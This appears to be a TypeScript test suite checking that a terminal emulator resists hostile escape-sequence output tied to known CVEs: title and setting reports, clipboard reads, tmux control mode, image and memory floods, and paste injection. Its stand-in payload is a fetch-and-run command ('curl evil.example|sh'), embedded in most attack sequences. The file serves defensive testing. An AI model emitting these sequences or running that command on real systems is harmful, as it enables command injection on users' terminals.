// What hostile output has done to other terminals, class by class, and that it does nothing to ours: no answer holds
// what was sent, nothing is kept beyond its bounds, no mode changes that is not modelled, and each attempt is counted.
// Classes that are no output (file permissions of the host's socket) have their tests with the host.

import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { setFlagsFromString } from 'node:v8';
import { runInNewContext } from 'node:vm';
import type { GuestModes } from '../../../../src/engine/terminals.ts';
import { CLUSTER_LIMIT_UNITS } from '../../../../src/panes/terminals/emulator/mend-emulator.ts';
import { intentBytes } from '../../../../src/panes/terminals/pty/input-bytes.ts';
import { FRESH_MODES } from '../../../support/fresh-modes.ts';
import { isFull } from '../../../support/long-form.ts';
import { TerminalUnderTest } from '../guest/terminal-under-test.ts';

/** What each leaves must be little beside what came: 1,500 of 10 kB are 15 MB. */
const FLOODS = isFull ? 4_000 : 1_500;

const ST = '\x1b\\';
/** Stands in each payload for what an attacker wants typed. */
const EVIL = 'curl evil.example|sh\r';
const hex = (text: string) => Buffer.from(text).toString('hex');
const base64 = (text: string) => Buffer.from(text).toString('base64');

interface Attack {
  readonly name: string;
  readonly output: string;
  /** All that the guest may be typed, '' for nothing. */
  readonly answer?: string;
  readonly blocked?: Readonly<Record<string, number>>;
  readonly title?: string;
  readonly modes?: Partial<GuestModes>;
}

const TITLE = `\x1b]0;${EVIL}\x07`;
const SHOWN_TITLE = 'curl evil.example|sh';

const ATTACKS: readonly Attack[] = [
  // CVE-2003-0063, CVE-2024-38395: the title, set by the guest, is typed back.
  {
    name: 'window title report',
    output: `${TITLE}\x1b[21t`,
    blocked: { 'title report': 1 },
    title: SHOWN_TITLE,
  },
  {
    name: 'icon title report',
    output: `${TITLE}\x1b[20t`,
    blocked: { 'title report': 1 },
    title: SHOWN_TITLE,
  },
  {
    name: 'title report after a restore',
    output: `${TITLE}\x1b[22t\x1b]2;x\x07\x1b[23t\x1b[21t`,
    blocked: { 'title report': 1 },
    title: SHOWN_TITLE,
  },
  // CVE-2008-2383, CVE-2022-45872, CVE-2022-47583: an unknown setting is echoed.
  { name: 'DECRQSS', output: `\x1bP$q${EVIL}${ST}`, answer: `\x1bP0$r${ST}` },
  { name: 'DECRQSS with a newline', output: `\x1bP$qm\n${EVIL}${ST}`, answer: `\x1bP0$r${ST}` },
  { name: 'XTGETTCAP', output: `\x1bP+q${hex(EVIL)}${ST}`, answer: `\x1bP0+r${ST}` },
  { name: 'XTGETTCAP that is no hexadecimal', output: `\x1bP+q${EVIL}${ST}`, answer: `\x1bP0+r${ST}` },
  { name: 'DECRQCRA', output: `${EVIL}\x1b[1;1;1;1;1;20*y`, blocked: { 'screen report': 1 } },
  // CVE-2022-45063, CVE-2023-39726: fonts and colours are echoed.
  { name: 'font query', output: `\x1b]50;?${EVIL}\x07\x1b]50;?\x07`, blocked: { 'font query': 2 } },
  { name: 'font change', output: `\x1b]50;${EVIL}\x07`, blocked: { 'font query': 1 } },
  {
    name: 'colours that are none',
    output: `\x1b]10;${EVIL}\x07\x1b]4;1;${EVIL}\x07\x1b]4;${EVIL};?\x07\x1b]12;?${EVIL}\x07`,
    blocked: { colour: 4 },
  },
  {
    name: 'a colour of its own',
    output: '\x1b]11;rgb:11/22/33\x07\x1b]11;?\x07',
    answer: `\x1b]11;rgb:1111/2222/3333${ST}`,
  },
  // CVE-2020-35605: the error of a picture is echoed.
  {
    name: 'kitty graphics error',
    output: `\x1b_Gi=1,a=q,t=${EVIL};${base64(EVIL)}${ST}`,
    blocked: { image: 1 },
  },
  // OSC 52; CVE-2025-55754.
  { name: 'clipboard read', output: '\x1b]52;c;?\x07\x1b]52;p;?\x1b\\', blocked: { 'clipboard read': 2 } },
  {
    name: 'clipboard read of kitty',
    output: `\x1b]5522;type=read;${base64('text/plain')}${ST}`,
    blocked: { 'clipboard read': 1 },
  },
  {
    name: 'clipboard write of iTerm2',
    output: `\x1b]1337;Copy=:${base64(EVIL)}\x07`,
    blocked: { 'clipboard write': 1 },
  },
  // CVE-2019-9535: tmux's control mode in band.
  {
    name: 'tmux control mode',
    output: `\x1bP1000p%output %0 ${EVIL}${ST}`,
    blocked: { 'device control': 1 },
  },
  { name: 'tmux passthrough', output: `\x1bPtmux;${EVIL}${ST}`, blocked: { 'device control': 1 } },
  {
    name: 'kitty remote control',
    output: `\x1bP@kitty-cmd{"cmd":"send-text","payload":"${EVIL}"}${ST}`,
    blocked: { 'device control': 1 },
  },
  { name: 'XTSETTCAP', output: `\x1bP+p${hex('TN')}${ST}`, blocked: { 'device control': 1 } },
  { name: 'soft fonts', output: `\x1bP1;1;1{ @${EVIL}${ST}`, blocked: { 'device control': 1 } },
  { name: 'a log file', output: '\x1b]46;/home/person/.bashrc\x07', blocked: { 'device control': 1 } },
  { name: 'an X property', output: '\x1b]3;WM_CLASS=x\x07', blocked: { 'device control': 1 } },
  { name: "an editor's API", output: '\x1b]51;["call","x",[]]\x07', blocked: { 'device control': 1 } },
  {
    name: 'file transfer of kitty',
    output: `\x1b]5113;ac=send;${base64(EVIL)}${ST}`,
    blocked: { 'device control': 1 },
  },
  // CVE-2020-27347, CVE-2018-19387, CVE-2022-47016: the parser's own memory.
  {
    name: 'SGR with too many colons',
    output: `\x1b[${'4:'.repeat(500)}m`,
    blocked: { 'overlong sequence': 1 },
  },
  { name: 'too many parameters', output: `\x1b[${'1;'.repeat(5_000)}H`, blocked: { 'overlong sequence': 1 } },
  {
    name: 'parameters of billions',
    output: '\x1b[99999999999999999999;2147483648H\x1b[4294967295@\x1b[-1C',
    blocked: { 'overlong sequence': 2 },
  },
  { name: 'an intermediate flood', output: `\x1b[${'$'.repeat(1_000)}p\x1b${' '.repeat(1_000)}F` },
  // CVE-2021-26937: marks without end on one cell.
  {
    name: 'marks on a cell',
    output: `x${'\u0301'.repeat(5_000)}\r\ny${'\u0301'.repeat(50)}`,
    blocked: { marks: 2 },
  },
  // CVE-2022-24130 and the like: pictures and files.
  { name: 'sixel', output: `\x1bPq"1;1;99999;99999#0!99999~${ST}`, blocked: { image: 1 } },
  {
    name: 'a sixel beyond all bounds',
    output: `\x1bP0;0;0q${'~'.repeat(100_000)}${ST}`,
    blocked: { image: 1, 'overlong string': 1 },
  },
  { name: 'ReGIS', output: `\x1bPpS(E)${ST}`, blocked: { image: 1 } },
  {
    name: 'kitty graphics from a file',
    output: `\x1b_Ga=T,t=f;${base64('/etc/passwd')}${ST}`,
    blocked: { image: 1 },
  },
  {
    name: 'a file of iTerm2',
    output: `\x1b]1337;File=name=${base64('.bashrc')};inline=0:${base64(EVIL)}\x07`,
    blocked: { image: 1 },
  },
  // CVE-2006-7236, CVE-2021-33500: windows that move, and grow without end.
  {
    name: 'window operations',
    output: '\x1b[1t\x1b[2t\x1b[3;0;0t\x1b[4;99999;99999t\x1b[5t\x1b[8;9999;9999t\x1b[9;1t\x1b[10;2t',
    blocked: { 'window operation': 8 },
  },
  {
    name: 'titles without end',
    output: `${`\x1b]0;${'\u202e'.repeat(99)}\x07`.repeat(3_000)}\x1b]2;last\x07`,
    blocked: { title: 2_901 },
    title: 'last',
  },
  { name: 'window reports', output: '\x1b[11t\x1b[13t', blocked: { 'window operation': 2 } },
  { name: 'a resize to 132 columns', output: '\x1b[?40h\x1b[?3h' },
  // CVE-2003-0023, CVE-2003-0024.
  { name: 'answerback', output: '\x05\x05', blocked: { answerback: 2 } },
  { name: 'printing', output: '\x1b[5i/etc/passwd\x1b[4i\x1b[?5i\x1b[i', blocked: { printer: 4 } },
  { name: 'user-defined keys', output: `\x1bP0;1|17/${hex(EVIL)}${ST}`, blocked: { 'key definition': 1 } },
  // CVE-2023-46321, CVE-2025-49091.
  {
    name: 'a link that runs',
    output: `\x1b]8;;javascript:alert(1)${ST}x\x1b]8;;file:///bin/sh${ST}x\x1b]8;;${ST}`,
    blocked: { link: 2 },
  },
  // OSC 7.
  {
    name: 'a folder elsewhere',
    output: `\x1b]7;file://evil.example/${'x'.repeat(9_000)}\x07`,
    blocked: { folder: 1 },
  },
  // Modes of another kind than the pane models.
  { name: 'modes that nobody knows', output: '\x1b[?1001h\x1b[?1034h\x1b[?5522h\x1b[?9999h\x1b[2h\x1b[12l' },
  { name: 'the kitty keyboard at its limits', output: `${'\x1b[>31u'.repeat(1_000)}\x1b[<9999u` },
];

describe('hostile output', () => {
  for (const { name, output, answer = '', blocked = {}, title = '', modes = {} } of ATTACKS) {
    it(`comes to nothing: ${name}`, () => {
      const subject = new TerminalUnderTest(20, 5);
      assert.equal(subject.answerTo(output), answer);
      assert.deepEqual(subject.terminal.blocked, blocked);
      assert.equal(subject.terminal.title.replace('␍', ''), title);
      assert.deepEqual(subject.terminal.modes, { ...FRESH_MODES, ...modes });
      assert.deepEqual([subject.terminal.cols, subject.terminal.rows], [20, 5]);
      assert.deepEqual(subject.signals, []);
      assert.deepEqual(subject.failures, []);
      assert.equal(
        subject.terminal.blockedTotal,
        Object.values(blocked).reduce((sum, count) => sum + count, 0),
      );
      // The terminal is at its ground state again: what follows is printed.
      subject.feed('\x1b[H\x1b[2JAFTER');
      assert.equal(subject.rowText(0), 'AFTER');
    });
  }

  it('is not what programs print in earnest: none of that is counted', () => {
    const subject = new TerminalUnderTest();
    for (let at = 0; at < 600; at += 1) {
      subject.now += 50;
      subject.feed(`\x1b]0;${'|/-\\'[at % 4]} working\x07`);
    }
    const styles = '0;1;3;4:3;38:2::1:2:3;48:2::4:5:6;58:2::7:8:9;53';
    const colours = '\x1b]4;1;#fff;2;?\x07\x1b]10;rgb:1/2/3;?\x07\x1b]11;?\x07\x1b]104;1\x07';
    subject.feed(`\x1b[${styles}m\x1b[${'1;'.repeat(31)}1m\x1b[65535;65535H${colours}`);
    subject.feed(`\x1b]7;file:///tmp\x07👩🏽‍❤️‍💋‍👨🏿 x${'\u0301'.repeat(20)}`);
    assert.deepEqual(subject.terminal.blocked, {});
  });

  it('is counted the same wherever it is cut', () => {
    const output = ATTACKS.map((attack) => attack.output).join('');
    const whole = new TerminalUnderTest().feed(output);
    const pieces = new TerminalUnderTest();
    const bytes = Buffer.from(output);
    for (let at = 0; at < bytes.length; at += 7) pieces.feed(bytes.subarray(at, at + 7));
    assert.deepEqual(pieces.terminal.blocked, whole.terminal.blocked);
  });

  it('never comes back, however it is asked for', () => {
    const subject = new TerminalUnderTest();
    const answerTo = (output: string) => {
      subject.now += 60_000;
      return subject.answerTo(`\x18\x1bc${output}`);
    };
    for (const code of [
      ...Array(120).keys(),
      133,
      440,
      633,
      697,
      777,
      1337,
      3008,
      5113,
      5522,
      7770,
      9001,
      30_001,
    ]) {
      for (const data of [EVIL, `?${EVIL}`, `${EVIL};?`, `1;${EVIL}`, `0;?;${EVIL}`, '?']) {
        const answer = answerTo(`\x1b]${code};${data}\x07\x1b]${code};?\x07`);
        assert.doesNotMatch(answer, /evil|\r/, `OSC ${code}`);
      }
    }
    for (const prefix of ['', '?', '>', '<', '=']) {
      for (const intermediate of ['', ' ', '!', '"', '#', '$', '%', '&', "'", '*', '+']) {
        for (let final = 0x40; final < 0x7f; final += 1) {
          const sequence = `${prefix}1${intermediate}${String.fromCharCode(final)}`;
          const answer = answerTo(`${TITLE}${EVIL}\x1b[${sequence}\x1bP${sequence}${EVIL}${ST}`);
          assert.doesNotMatch(answer, /evil|\r/, sequence);
        }
      }
    }
    assert.equal(subject.answerTo('\x18\x1b[5n'), '\x1b[0n');
  });

  it('does not pile marks on a cell without end', () => {
    const subject = new TerminalUnderTest().feed(`a${'\u0301'.repeat(100_000)}b`);
    const [[col, text] = [0, '']] = subject.row(0).clusters;
    assert.deepEqual([col, text.length], [0, CLUSTER_LIMIT_UNITS]);
    assert.equal(subject.rowText(0).at(-1), 'b');
    // A cell that holds something else now takes its own marks.
    subject.feed('\x1b[He\u0301');
    assert.equal(subject.row(0).clusters[0]?.[1], 'e\u0301');
    // The longest emoji in use stays whole.
    const family = '👩🏽‍❤️‍💋‍👨🏿';
    assert.equal(new TerminalUnderTest().feed(family).row(0).clusters[0]?.[1], family);
  });

  it('repeats a character over at most one row', () => {
    const subject = new TerminalUnderTest(20, 5).feed('x\x1b[9999b');
    assert.deepEqual([subject.rowText(0), subject.rowText(1), subject.rowText(2)], ['x'.repeat(20), 'x', '']);
    assert.equal(new TerminalUnderTest(20, 5).feed('x\x1b[4b').rowText(0), 'xxxxx');
  });

  it('notifies in plain text only (CVE-2022-41322)', () => {
    const subject = new TerminalUnderTest().feed('\x1b]777;notify;<b>x</b>\u202e;a\tb\x07');
    assert.deepEqual(subject.signals, [{ kind: 'notification', title: '<b>x</b><U+202E>', body: 'ab' }]);
  });

  it('presses no key by what is pasted (CVE-2019-17068, CVE-2021-31701)', () => {
    const text = `one\x1b[201~${EVIL}\x9b\x03`;
    for (const bracketedPaste of [true, false]) {
      const typed = Buffer.from(
        intentBytes({ kind: 'paste', text }, { ...FRESH_MODES, bracketedPaste }),
      ).toString();
      const inside = bracketedPaste ? typed.slice('\x1b[200~'.length, -'\x1b[201~'.length) : typed;
      assert.doesNotMatch(inside, /[^\P{Cc}\t\n\r]/u);
    }
  });

  it('costs little time where it floods', () => {
    const startedAt = performance.now();
    const subject = new TerminalUnderTest(200, 50);
    subject.feed(`\x1b]0;${'t'.repeat(40)}\x07`.repeat(50_000));
    subject.feed('\x07'.repeat(500_000));
    subject.feed('x\x1b[9999b'.repeat(5_000));
    subject.feed('\x1b[c\x1b[6n\x1b]11;?\x07'.repeat(20_000));
    assert.ok(performance.now() - startedAt < 10_000, `took ${performance.now() - startedAt} ms`);
    assert.equal(subject.terminal.title, 't'.repeat(40));
  });

  it('leaves nothing behind in memory', () => {
    setFlagsFromString('--expose-gc');
    const collect: () => void = runInNewContext('gc');
    const floods: readonly ((at: number) => string)[] = [
      (at) => `\x1b]0;${at}${'t'.repeat(10_000)}\x07\x1b[22t`,
      (at) => `\r\x1b]8;id=${at};http://a.example/${at}/${'l'.repeat(1_900)}${ST}x`,
      (at) => `\x1b]99;i=${at}:d=0;${'n'.repeat(10_000)}${ST}`,
      (at) => `\x1b]133;A;aid=${at}\x07`,
      (at) => `\x1b]7;file:///${at}${'f'.repeat(3_000)}\x07`,
      (at) => `\x1b]4;${at % 1_000};#123456\x07`,
      (at) => `\x1b[>${at % 32}u`,
      (at) => `\x1bP$q${at}${'q'.repeat(10_000)}${ST}`,
      (at) => `\x1b_G${at}${'g'.repeat(10_000)}${ST}`,
      (at) => `\x1bPq${at}${'s'.repeat(10_000)}${ST}`,
      (at) => `\x1b]5${at};${'u'.repeat(10_000)}\x07`,
      () => '\u0301'.repeat(1_500),
    ];
    for (const flood of floods) {
      const subject = new TerminalUnderTest();
      subject.feed('x').feed(flood(0));
      collect();
      const before = process.memoryUsage().heapUsed;
      for (let at = 1; at < FLOODS; at += 1) subject.feed(flood(at));
      collect();
      const grownBytes = process.memoryUsage().heapUsed - before;
      assert.ok(grownBytes < 4 * 1024 * 1024, `${flood} left ${grownBytes} bytes`);
      assert.deepEqual(subject.failures, []);
    }
  });
});
